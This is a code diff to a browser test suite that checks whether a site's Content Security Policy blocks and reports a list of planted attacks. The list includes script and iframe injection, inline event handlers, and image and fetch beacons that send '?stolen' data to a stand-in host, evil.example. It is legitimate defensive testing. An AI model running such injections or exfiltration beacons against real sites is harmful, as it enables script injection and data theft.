@@ -117,26 +117,17 @@ test('the provider’s own hosts: script, frame, pictures, reports, and the bank
   )
 })
 
-/** Attacks, and the directive that must block each. */
-const PLANTED: [directive: string, attack: () => unknown][] = [
-  ['script-src-elem', () => document.body.append(Object.assign(document.createElement('script'), { text: 'owned()' }))],
-  [
-    'script-src-elem',
-    () => document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })),
-  ],
+/** Attacks, and the directive that must block each: an element that is added, or what a script does. */
+const PLANTED: [directive: string, attack: [tag: string, properties: object] | (() => unknown)][] = [
+  ['script-src-elem', ['script', { text: 'owned()' }]],
+  ['script-src-elem', ['script', { src: 'https://evil.example/x.js' }]],
   ['script-src-attr', () => document.body.setAttribute('onclick', 'owned()')],
   ['script-src', () => void Reflect.apply(setTimeout, window, ['owned()', 0])],
   ['style-src-attr', () => document.body.setAttribute('style', 'color: red')],
-  [
-    'style-src-elem',
-    () => document.head.append(Object.assign(document.createElement('style'), { textContent: 'p { color: red }' })),
-  ],
+  ['style-src-elem', ['style', { textContent: 'p { color: red }' }]],
   ['img-src', () => void (new Image().src = 'https://evil.example/?stolen')],
   ['connect-src', () => void fetch('https://evil.example/?stolen').catch(() => undefined)],
-  [
-    'frame-src',
-    () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
-  ],
+  ['frame-src', ['iframe', { src: 'https://evil.example/' }]],
   [
     'form-action',
     () => {
@@ -145,11 +136,8 @@ const PLANTED: [directive: string, attack: () => unknown][] = [
       form.submit()
     },
   ],
-  [
-    'base-uri',
-    () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
-  ],
-  ['object-src', () => document.body.append(Object.assign(document.createElement('object'), { data: '/icon.svg' }))],
+  ['base-uri', ['base', { href: 'https://evil.example/' }]],
+  ['object-src', ['object', { data: '/icon.svg' }]],
   ['worker-src', () => new Worker(URL.createObjectURL(new Blob(['']))).terminate()],
   ['require-trusted-types-for', () => void (document.createElement('div').innerHTML = '<img src=x>')],
 ]
@@ -164,7 +152,12 @@ test.describe('control: planted attacks are detected and reported', () => {
   test('by the browser’s event, in the console, and at nginx', async ({ page, violations, nginx }) => {
     await open(page, '/term', 'en')
     for (const [directive, attack] of PLANTED) {
-      await page.evaluate(attack)
+      if (typeof attack === 'function') await page.evaluate(attack)
+      else
+        await page.evaluate(
+          ([tag, properties]) => document.body.append(Object.assign(document.createElement(tag), properties)),
+          attack,
+        )
       await expect.poll(() => violations.map((violation) => violation.directive), directive).toContain(directive)
       violations.length = 0
     }
